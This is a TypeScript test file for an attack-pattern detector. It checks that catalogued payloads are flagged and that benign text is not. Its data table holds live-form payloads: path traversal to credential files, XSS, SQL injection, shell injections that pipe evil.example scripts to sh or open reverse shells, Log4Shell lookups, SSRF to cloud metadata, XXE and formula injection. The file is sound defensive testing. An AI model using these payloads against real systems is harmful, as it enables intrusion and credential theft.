import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { attackShapeOf, isOperator } from '../../../src/diagnose/attack-shapes.ts';
import { ATTACK_NAMES, type AttackKind } from '../../../src/diagnose/attacks/attack-kind.ts';

/** Attacks of each kind, in the spellings that are going about. */
const ATTACKS: readonly (readonly [AttackKind, readonly string[]])[] = [
  ['path', ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '..%2f..%2fetc%2fshadow', '....//....//etc/passwd', '/etc/passwd', 'file:///etc/passwd', 'C:\\Windows\\System32\\config\\SAM', '../../upload.php\0.png', 'php://filter/convert.base64-encode/resource=index', '../../../root/.ssh/authorized_keys', '../../home/app/.aws/credentials']],
  ['script', ['<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'javascript:alert(document.cookie)', '<iframe src="javascript:alert(1)">', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', '<details open ontoggle=alert(1)>']],
  ['sql', ["' OR '1'='1", "1 OR 1=1", "x' or 1=1 --", "admin'--", "admin' #", "'; DROP TABLE users;--", '105; DROP TABLE users', "' UNION SELECT username, password FROM users--", '1 UNION SELECT NULL, NULL--', "1' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--", "'; EXEC xp_cmdshell 'dir'--", "' || '1'=='1", "') OR ('a'='a", "'; return true; var x='"]],
  ['database-operator', ['{"$ne": null}', "{'$gt':''}", '{$where: 1}']],
  ['shell', ['a.png;curl http://evil.example/x|sh', '8.8.8.8; cat /etc/passwd', 'x && rm -rf /', '$(curl evil.example)', '`whoami`', '| nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444', '() { :;}; echo', 'x; whoami']],
  ['directory-filter', ['*)(uid=*))(|(uid=*', '*)(objectClass=*', 'admin)(&)']],
  ['lookup', ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}', '${${env:NONE:-j}ndi${env:NONE:-:}${env:NONE:-l}dap://evil.example}', '%24%7Bjndi:dns://evil.example%7D', 'Mozilla/5.0 (X11; Linux x86_64) ${JNDI:ldap://evil.example/a}']],
  ['template', ['{{7*7}}', '${7*7}', '<%= 7 * 7 %>', '#{7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", "{{constructor.constructor('return process')()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}"]],
  ['formula', ["=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1)', '=WEBSERVICE("https://evil.example")', "+1+1+cmd|'/C calc'!A0"]],
  ['header', ['a@example.com\r\nBcc: all@evil.example', 'en\r\nSet-Cookie: admin=1', 'x%0d%0aContent-Length:%200', 'x\r\n\r\nHTTP/1.1 200 OK']],
  ['serialised-function', ['_$$ND_FUNC$$_function (){}()']],
  ['inner-service', ['gopher://127.0.0.1:6379/_FLUSHALL', 'dict://localhost:11211/stat', 'gopher://[::1]:25/_HELO']],
  ['prototype', ['__proto__.isAdmin', 'constructor.prototype.isAdmin', '__proto__[admin]']],
  ['entity', ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">%x;]><r/>', '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]><r>&c;</r>']],
  [
    'address',
    [
      'http://169.254.169.254/latest/meta-data/', 'http://2852039166/', 'http://0xA9FEA9FE/', 'http://0xa9.0xfe.0xa9.0xfe/', 'http://0251.0376.0251.0376/', 'http://169.254.43518/', 'http://[::ffff:169.254.169.254]/', 'http://[::ffff:a9fe:a9fe]:80/',
      'http://[0:0:0:0:0:ffff:a9fe:a9fe]/', 'http://[64:ff9b::a9fe:a9fe]/', 'http://[::169.254.169.254]/', 'https://partner.example@169.254.169.254/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://METADATA.google.internal./', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/',
      'http://169.254.170.2/v2/credentials', 'http://169.254.169.254.nip.io/', 'http://x.169-254-169-254.sslip.io/', '169.254.169.254/latest/user-data', '//169.254.169.254/', 'ftp://169.254.169.254/', 'gopher://169.254.169.254/_x', 'http://①⑥⑨。②⑤④。①⑥⑨。②⑤④/', ' http://169.254.169.254/ ',
    ],
  ],
];

/** One text a line that somebody means as data, however much it looks like an attack. */
const HONEST = readFileSync(new URL('honest-texts.txt', import.meta.url), 'utf8')
  .split('\n')
  .filter((line) => line !== '' && !line.startsWith('## '))
  .map((line) => JSON.parse(`"${line}"`) as string);

describe.each(ATTACKS)('an attack of the kind %s', (kind, texts) => {
  it.each(texts)('is told from data: %s', (text) => {
    expect(attackShapeOf(text)).toBe(kind);
  });

  it('has a name that ends a sentence', () => {
    expect(ATTACK_NAMES[kind]).toMatch(/^an? |^the /);
  });
});

it('has attacks of each kind', () => {
  expect(ATTACKS.map(([kind]) => kind).toSorted()).toEqual(Object.keys(ATTACK_NAMES).toSorted());
});

describe('a text that somebody means', () => {
  it.each(HONEST)('is no attack: %s', (text) => {
    expect(attackShapeOf(text)).toBeUndefined();
  });

  it('is none either in the midst of a sentence about attacks', () => {
    for (const [kind, texts] of ATTACKS) {
      if (kind === 'address' || kind === 'entity') continue;
      for (const text of texts.filter((attack) => !/^[\s=@+/|&C_{]|^(?:javascript|data|php|file|gopher|dict|constructor|admin|1|105)\b/.test(attack))) {
        expect(attackShapeOf(`Please tell the team that somebody has tried ${text}`), text).toBeUndefined();
      }
    }
  });

  it('is none when it is made of any words and marks of a language', () => {
    const word = fc.constantFrom("O'Brien", 'select', 'Union', 'and', 'or', 'drop', 'table', 'script', 'Möller', '&', '-', '1', "5'", '(', ')', '"', 'id', 'cat', 'curl', 'rm', 'null', '+', '../', '$5', '#1', '%');
    fc.assert(fc.property(fc.array(word, { maxLength: 12 }), (words) => attackShapeOf(words.join(' ')) === undefined), { numRuns: 10_000 });
  });
});

describe('an operator of a document database', () => {
  it('is one where it finds everything', () => {
    for (const value of [{ $ne: null }, { $gt: '' }, { $nin: [] }, { $exists: true }, { $regex: '.*' }, { $where: 'sleep(9)' }]) expect(isOperator(value, false)).toBe(true);
  });

  it('is a filter where it finds something', () => {
    for (const value of [{ $gt: '2026-01-01' }, { $ne: 'closed' }, { $regex: '^INV-' }, { $in: ['a'] }, {}, [], null, 'x']) expect(isOperator(value, false)).toBe(false);
  });

  it('guesses where a secret is wanted', () => {
    for (const value of [{ $ne: 'x' }, { $regex: '^a' }, { $in: ['a', 'b'] }]) expect(isOperator(value, true)).toBe(true);
    expect(isOperator({ $date: '2026-01-01' }, true)).toBe(false);
  });
});
